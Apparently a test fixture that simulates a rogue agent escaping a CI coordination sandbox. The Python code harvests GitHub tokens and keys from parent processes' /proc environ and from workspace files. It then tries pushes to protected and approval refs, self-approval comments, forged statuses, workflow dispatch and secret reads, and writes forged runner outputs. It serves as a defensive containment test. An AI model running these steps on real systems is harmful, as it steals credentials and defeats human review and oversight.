# ruff: noqa: T201
"""What an agent might put into the code under test to get at more than it may. Prints what came of each attempt, never
what it found; ends red. SERVER, API and NAME are filled in by the test."""

import base64
import contextlib
import json
import os
import re
import subprocess
import tempfile
import urllib.error
import urllib.request
from pathlib import Path

SERVER, API, NAME = "@SERVER@", "@API@", "@NAME@"
TOKEN = re.compile(r"gh[ps]_[A-Za-z0-9]{36}")
RUNNER_FILES = ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")


def ancestors():
    """Return the processes that this one descends from."""
    pid, found = os.getppid(), []
    while pid > 1:
        found.append(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    return found


def told_by(pid):
    """Return what the environment and the arguments of a process say."""
    said = ""
    for name in ("environ", "cmdline"):
        with contextlib.suppress(OSError):
            said += Path(f"/proc/{pid}/{name}").read_text(errors="replace").replace("\0", "\n") + "\n"
    return said


def lying_about(folders):
    """Return what the files below some folders hold."""
    said = ""
    for folder in folders:
        for path in [path for path in Path(folder).rglob("*") if path.is_file()][:3000]:
            with contextlib.suppress(OSError):
                said += path.read_text(errors="replace") if path.stat().st_size < 100_000 else ""
    return said


def basic(token):
    return base64.b64encode(f"x-access-token:{token}".encode()).decode()


def pushed(token, ref):
    """Try to push a commit of our own; return whether that went well, and how often the answer was 403 or 401."""
    with tempfile.TemporaryDirectory() as folder:

        def git(*args):
            return subprocess.run(
                ["git", "-c", f"http.extraheader=AUTHORIZATION: basic {basic(token)}", "-c", "user.name=x",
                 "-c", "user.email=x@example.com", "-C", folder, *args],
                capture_output=True, text=True, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"},
            )  # fmt: skip

        git("init", "-q")
        git("fetch", "-q", f"{SERVER}/{NAME}", "main")
        commit = git("commit-tree", "-m", "mine", "-p", "FETCH_HEAD", "FETCH_HEAD^{tree}").stdout.strip()
        done = git("push", f"{SERVER}/{NAME}", f"{commit}:{ref}")
        return done.returncode == 0, len(
            re.findall(r"40[13]|Authentication failed|could not read", done.stderr)
        )


def asked(token, method, path, body=None):
    """Ask the API; return the code of its answer."""
    data = json.dumps(body).encode() if body is not None else None
    headers = {"Content-Type": "application/json", "X-GitHub-Api-Version": "2022-11-28"}
    headers |= {"Authorization": f"Bearer {token}"} if token else {}
    request = urllib.request.Request(f"{API}/repos/{NAME}/{path}", data, headers, method=method)
    try:
        with urllib.request.urlopen(request) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def main():
    mine = sorted(name for name in os.environ if name.startswith(("COORD", "GITHUB", "ACTIONS", "RUNNER")))
    print("own environment:", mine)
    told = "\n".join(map(told_by, ancestors()))
    places = re.findall(r"^(?:RUNNER_TEMP|GITHUB_WORKSPACE|HOME)=(.+)$", told, re.MULTILINE)
    found = lying_about({*places, "."} - {"/", "/root"})
    print("tokens in files:", len(set(TOKEN.findall(found))))
    print("credentials of git in files:", len(re.findall(r"AUTHORIZATION: basic [\w+/=]{40}", found)))
    tokens = sorted(set(TOKEN.findall(told)))
    print("tokens of the job itself:", len(tokens))
    print("keys:", (told + found).count("PRIVATE" + " KEY"))
    for number, token in enumerate([*tokens, ""]):
        for ref in ("refs/heads/main", "refs/heads/feat/mine", "refs/coord/approvals/rewriter"):
            well, refused = pushed(token, ref)
            print(f"push {number} {ref}:", "went well" if well else f"refused {bool(refused)}")
        for method, path, body in (
            ("POST", "issues/1/comments", {"body": "/coord approve"}),
            ("PATCH", "pulls/1", {"title": "mine"}),
            ("POST", "issues", {"title": "mine"}),
            ("DELETE", "git/refs/heads/feat/other", None),
            ("POST", "statuses/" + "@MAIN@", {"state": "success", "context": "coord/land"}),
            ("POST", "actions/workflows/coord-land.yml/dispatches", {"ref": "main"}),
            ("GET", "actions/secrets", None),
            ("GET", "environments/coord/secrets", None),
            ("GET", "pulls", None),
        ):
            print(f"ask {number} {method} {path}:", asked(token, method, path, body))
    for name, path in set(re.findall(rf"^({'|'.join(RUNNER_FILES)})=(.+)$", told, re.MULTILINE)):
        with Path(path).open("a") as stream:
            stream.write("report=forged\nplan=forged\nlegs=[]\n")
        print("wrote to", name)


main()
print("coord: failed: <img src=x>")
raise SystemExit(1)
